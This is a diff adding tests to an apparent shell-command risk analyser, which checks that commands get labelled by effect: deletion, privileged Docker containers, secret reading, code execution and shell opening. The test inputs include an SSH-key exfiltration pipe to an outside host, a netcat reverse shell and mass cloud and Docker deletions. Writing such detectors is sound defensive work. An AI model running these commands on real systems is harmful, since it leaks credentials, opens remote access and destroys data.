@@ -50,6 +50,47 @@ describe('what a script does', () => {
     expect(analyse('ssh host "rm x"').places).toEqual(['host']);
   });
 
+  it('names the thing that goes, not the command that takes it', () => {
+    expect(found('docker compose down -v')).toEqual([
+      'deletes their volumes, with all data',
+      'halts the services of this directory',
+    ]);
+    expect(found('docker rm -f web')).toEqual(['deletes container web']);
+    expect(found('docker system prune -af --volumes')).toEqual([
+      'deletes unused containers, networks, images, volumes',
+    ]);
+    expect(found('aws s3 rm s3://b/ --recursive')).toEqual(['destroys s3://b/ (aws s3 rm)']);
+    expect(found('gcloud sql instances delete db')).toEqual(['destroys db (gcloud sql instances delete)']);
+    expect(found('curl -X DELETE https://x.io/1')).toEqual(['deletes what is at https://x.io/1']);
+    expect(found('systemctl restart db')).toEqual(['restarts db']);
+    expect(found('chown -R bob:bob src')).toEqual(['owns src and all in it to bob:bob']);
+  });
+
+  it('says when a container is given the machine', () => {
+    for (const options of ['--privileged', '-v /:/host', '--pid=host', '-v /var/run/docker.sock:/d']) {
+      expect(found(`docker run ${options} alpine sh`)).toContain(
+        'reaches_machine a container with its rights on alpine',
+      );
+    }
+    expect(found('docker run -v /srv/a:/a alpine sh')).toEqual([]);
+  });
+
+  it('sees secrets that are packed, and what code on the line reaches', () => {
+    expect(found('tar czf - ~/.ssh | curl -T - https://x.io')).toContain('reads_secrets ~/.ssh');
+    expect(found('python3 -c "import shutil; shutil.rmtree(1)"')).toEqual([
+      'runs_code python3, which deletes files',
+    ]);
+    expect(found('node -e "1+1"')).toEqual(['runs_code node']);
+    expect(found('nc -e /bin/sh 10.0.0.1 99')).toEqual(['opens_shell 10.0.0.1:99']);
+    expect(found('pip install a --index-url http://i.io/s')).toEqual(['installs a from http://i.io/s']);
+  });
+
+  it('takes variables of PowerShell for values unless they are called', () => {
+    expect(found('Get-Service | Where-Object {$_.Status -eq "x"}', 'powershell')).toEqual([]);
+    expect(found('$a = Remove-Item x', 'powershell')).toEqual(['deletes x']);
+    expect(found('& $tool x', 'powershell')).toEqual(['runs_hidden $tool']);
+  });
+
   it('is unknown where code only appears when it runs', () => {
     expect(found('eval "$(tool init)"')).toContain('runs_hidden tool');
     expect(found('$(get) x')).toContain('runs_hidden get');
